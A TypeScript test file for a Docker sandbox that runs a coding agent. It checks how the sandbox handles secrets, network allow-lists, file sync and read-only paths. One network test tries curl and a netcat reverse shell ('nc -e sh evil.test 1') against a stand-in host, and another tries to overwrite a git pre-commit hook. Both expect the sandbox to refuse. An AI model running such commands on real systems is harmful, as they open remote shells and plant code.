import { mkdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { bubblewrapIsMissing } from '../../../test/support/bubblewrap.ts';
import { deep, deepRows } from '../../../test/support/deep.ts';
import { openDockerStage, runBehind } from '../../../test/support/sandbox-stand-in/docker-stage.ts';
import { sandboxName } from './find-docker.ts';
import { openDockerSandbox } from './open-docker-sandbox.ts';

describe
  .skipIf(bubblewrapIsMissing())
  .each(deepRows('the two differ in their command lines only, which have tests of their own', ['sbx', 'docker'] as const, 1))(
  'a Docker sandbox of %s (with a stand-in, without an engine)',
  { concurrent: true },
  (flavour) => {
    it('is created once and kept', async () => {
      await using stage = await openDockerStage(flavour);
      const name = sandboxName(stage.options.cli, stage.repo.path);
      for (const _ of [1, 2]) {
        await using wall = await openDockerSandbox(stage.options);
        expect((await runBehind(wall, stage, 'pwd')).text).toBe(stage.repo.path);
      }
      expect(stage.said('create')).toEqual([['create', '--name', name, 'claude', stage.repo.path, join(stage.home, '.dclaude_state')]]);
      expect(stage.said('rm')).toEqual([]);
      expect(stage.said('run')).toEqual([]);
    });

    it('passes the prompt on stdin byte for byte, and returns the output and the exit code', async () => {
      await using stage = await openDockerStage(flavour);
      await using wall = await openDockerSandbox(stage.options);
      await stage.standIn.putProgram('claude', '#!/bin/sh\ncat >"$1"\necho "said $HOME"\nexit 7\n');
      const stdin = `--env-file 'x' "y" $HOME \`z\` ä \t\n${'long line '.repeat(20_000)}\n\nno newline`;
      const ran = await runBehind(wall, stage, '', { file: '/somewhere/of/the/host/claude', args: ['prompt.txt'], stdin });
      expect(ran).toMatchObject({ text: 'said /home/agent', ending: { code: 7 } });
      expect(await readFile(join(stage.repo.path, 'prompt.txt'), 'utf8')).toBe(stdin);
    });

    it('passes variables in a private file that is deleted afterwards, never on a command line', async () => {
      await using stage = await openDockerStage(flavour);
      await using wall = await openDockerSandbox(stage.options);
      const env = { API_KEY: 'sk-very-secret=1 "2"', PATH: '/of/the/host', HOME: '/of/the/host', HTTPS_PROXY: 'http://x', XDG_CACHE_HOME: '/x', TWO: 'a\nb' };
      const ran = await runBehind(wall, stage, 'echo "$API_KEY|$HOME|$HTTPS_PROXY|$XDG_CACHE_HOME|$TWO|$PATH"', { env });
      expect(ran.text).toBe('sk-very-secret=1 "2"|/home/agent||||/opt/vm-bin:/opt/stand-in-bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin');
      expect(JSON.stringify(stage.standIn.calls())).not.toContain('very-secret');
      const files = stage.standIn.calls().flatMap(({ envFile }) => envFile ?? []);
      expect(new Set(files.map(({ mode }) => mode))).toEqual(new Set(['600']));
      for (const { path } of files) await expect(stat(path)).rejects.toThrow('ENOENT');
      expect(stage.warnings.filter((text) => text.includes('TWO'))).toHaveLength(1);
    });

    it('reaches the hosts it was given and no others', async () => {
      await using stage = await openDockerStage(flavour);
      await using wall = await openDockerSandbox({ ...stage.options, hosts: ['api.anthropic.com', '*.example.com', 'other.test:8443'] });
      const { text } = await runBehind(
        wall,
        stage,
        'for h in api.anthropic.com a.example.com evil.test; do curl -s https://$h && echo yes $h || echo no $h; done; nc -e sh evil.test 1 || echo no nc',
      );
      expect(text).toContain('yes api.anthropic.com');
      expect(text).toContain('yes a.example.com');
      expect(text).toContain('no evil.test');
      expect(text).toContain('no nc');
      expect(stage.refusals).toEqual([{ what: 'network', target: expect.stringContaining('evil.test') }]);
      const asked = flavour === 'sbx' ? stage.said('policy allow network') : stage.said('network proxy');
      expect(asked).toHaveLength(1);
    });

    it('is restarted when the loop has committed, so that git inside sees the commit', async () => {
      await using stage = await openDockerStage(flavour);
      await using wall = await openDockerSandbox(stage.options);
      await runBehind(wall, stage, 'echo two >a.txt');
      stage.repo.git('commit', '-qam', 'by the loop');
      const { text } = await runBehind(wall, stage, 'git log -1 --format=%s; git status --short');
      expect(text).toBe('by the loop');
      expect(stage.said('stop')).toHaveLength(1);
    });
  },
);

describe.skipIf(bubblewrapIsMissing()).concurrent('a Docker sandbox of sbx and its files (with a stand-in, without an engine)', () => keepsInStep('sbx'));

deep('the two differ in their command lines only, and each of these has a test above', () => {
  describe
    .skipIf(bubblewrapIsMissing())
    .concurrent('a Docker sandbox of docker and its files (with a stand-in, without an engine)', () => keepsInStep('docker'));
});

/** Tests which files are seen inside, and which reach the host. */
function keepsInStep(flavour: 'sbx' | 'docker'): void {
  it('has the login of the host, a name for commits, and the hooks at the path of the host', async () => {
    await using stage = await openDockerStage(flavour);
    await using wall = await openDockerSandbox(stage.options);
    const state = join(stage.home, '.dclaude_state');
    expect(await readFile(join(state, '.claude.json'), 'utf8')).toBe('{}\n');
    expect([(await stat(state)).mode & 0o777, (await stat(join(state, '.claude.json'))).mode & 0o777]).toEqual([0o700, 0o600]);
    const { text } = await runBehind(
      wall,
      stage,
      `readlink ~/.claude ~/.claude.json; git config user.name; git config user.email; echo token >~/.claude/login; node ${stage.options.hookEntry}`,
    );
    expect(text.split('\n')).toEqual([join(state, '.claude'), join(state, '.claude.json'), 'Ralph Loop', 'ralph@localhost', 'the hook answers']);
    expect(await readFile(join(state, '.claude/login'), 'utf8')).toBe('token\n');
  });

  it('brings files that were written inside to the host before the call ends', async () => {
    await using stage = await openDockerStage(flavour);
    await using wall = await openDockerSandbox({ ...stage.options, settleMs: 4_500 });
    // From now on the sync is so slow that the file can only be there because of the pause.
    await stage.standIn.set({ syncMs: 1_500 });
    await runBehind(wall, stage, 'echo two >a.txt; rm b.txt; mkdir -p d; echo new >d/c.txt');
    expect(await readFile(join(stage.repo.path, 'a.txt'), 'utf8')).toBe('two\n');
    expect(await readFile(join(stage.repo.path, 'd/c.txt'), 'utf8')).toBe('new\n');
    await expect(stat(join(stage.repo.path, 'b.txt'))).rejects.toThrow('ENOENT');
  });

  it('shows what the loop wrote, created and removed between two calls, which the sync alone never does', async () => {
    await using stage = await openDockerStage(flavour);
    await using wall = await openDockerSandbox(stage.options);
    await runBehind(wall, stage, 'true');
    await stage.repo.write('a.txt', 'two\n');
    await stage.repo.write('new/ -n odd.txt', 'new\n');
    await stage.repo.write('run.sh', '#!/bin/sh\necho ran\n', 0o755);
    await mkdir(join(stage.repo.path, '.ralph'));
    await stage.repo.write('.ralph/.gitignore', '*\n');
    await stage.repo.write('.ralph/progress.md', 'ours\n');
    await rm(join(stage.repo.path, 'b.txt'));

    // Without the copy by Ralph, the stand-in still shows the old file.
    const name = sandboxName(stage.options.cli, stage.repo.path);
    const alone = await stage.standIn.say([flavour, ...stage.options.cli.prefix, 'exec', '-w', stage.repo.path, name, 'cat', 'a.txt', 'b.txt']);
    expect(alone.stdout).toBe('one\nb\n');

    const { text } = await runBehind(wall, stage, "cat a.txt 'new/ -n odd.txt' .ralph/progress.md; ./run.sh; ls b.txt 2>/dev/null || echo gone");
    expect(text).toBe('two\nnew\nours\nran\ngone');
    expect(stage.said('stop')).toEqual([]);
  });

  it('brings a commit that was made inside to the host, without a restart', async () => {
    await using stage = await openDockerStage(flavour);
    await using wall = await openDockerSandbox(stage.options);
    await runBehind(wall, stage, 'echo two >a.txt; git commit -qam inside');
    expect(stage.repo.git('log', '-1', '--format=%s %an %ae')).toBe('inside Ralph Loop ralph@localhost');
    await runBehind(wall, stage, 'true');
    expect(stage.said('stop')).toEqual([]);
  });

  it('starts with the current files of the host, although the sandbox kept running since the last run', async () => {
    await using stage = await openDockerStage(flavour);
    {
      await using wall = await openDockerSandbox(stage.options);
      await runBehind(wall, stage, 'true');
    }
    await writeFile(join(stage.repo.path, 'a.txt'), 'edited in the pause\n');
    await using wall = await openDockerSandbox(stage.options);
    expect((await runBehind(wall, stage, 'cat a.txt')).text).toBe('edited in the pause');
    expect(stage.said('stop')).toHaveLength(1);
  });

  it('works in a worktree that was created after the sandbox', async () => {
    await using stage = await openDockerStage(flavour);
    const trees = join(stage.repo.path, '../repo.ralph');
    await using wall = await openDockerSandbox({ ...stage.options, extraPaths: [trees] });
    await runBehind(wall, stage, 'true');
    stage.repo.git('worktree', 'add', '-q', join(trees, 'task'), '-b', 'ralph/task');
    const { text } = await runBehind(wall, stage, 'cat a.txt; echo two >a.txt; git commit -qam inside; git log -1 --format=%s', { cwd: join(trees, 'task') });
    expect(text).toBe('one\ninside');
    expect(stage.repo.git('log', '-1', '--format=%s', 'ralph/task')).toBe('inside');
  });

  it('lets gates see a fresh checkout in another folder, and drops it when the host does', async () => {
    await using stage = await openDockerStage(flavour);
    await using wall = await openDockerSandbox(stage.options);
    await runBehind(wall, stage, 'true');
    const checkout = join(stage.repo.beside, 'checkout');
    stage.repo.git('worktree', 'add', '-q', '--detach', checkout);
    const gate = (script: string, cwd = checkout) => runBehind(wall, stage, script, { who: 'gate', cwd });
    expect((await gate('cat a.txt; git log -1 --format=%s; echo installed >only-inside')).text).toBe('one\nstart');
    expect((await gate('cat only-inside')).text).toBe('installed');
    await expect(stat(join(checkout, 'only-inside'))).rejects.toThrow('ENOENT');
    stage.repo.git('worktree', 'remove', '--force', checkout);
    expect((await gate(`ls ${checkout} 2>/dev/null || echo gone`, stage.repo.path)).text).toBe('gone');
  });

  it('does not copy read-only files in', async () => {
    await using stage = await openDockerStage(flavour);
    const ours = join(stage.repo.path, '.ralph');
    await mkdir(ours);
    await using wall = await openDockerSandbox({ ...stage.options, readOnlyPaths: [ours] });
    await runBehind(wall, stage, 'true');
    await stage.repo.write('.ralph/progress.md', 'ours\n');
    await stage.repo.write('a.txt', 'two\n');
    expect((await runBehind(wall, stage, 'cat a.txt; echo mine >.ralph/progress.md || echo refused')).text).toContain('two');
    expect(await readFile(join(ours, 'progress.md'), 'utf8')).toBe('ours\n');
  });

  it('does not let commands write read-only files', async () => {
    await using stage = await openDockerStage(flavour);
    const hooks = join(stage.repo.path, '.git/hooks');
    await using wall = await openDockerSandbox({ ...stage.options, readOnlyPaths: [hooks, join(stage.repo.path, '.git/nothing')] });
    expect(stage.said('create')[0]?.slice(-1)).toEqual([`${hooks}:ro`]);
    expect((await runBehind(wall, stage, 'echo evil >.git/hooks/pre-commit || echo refused')).text).toContain('refused');
    await expect(stat(join(hooks, 'pre-commit'))).rejects.toThrow('ENOENT');
  });
}
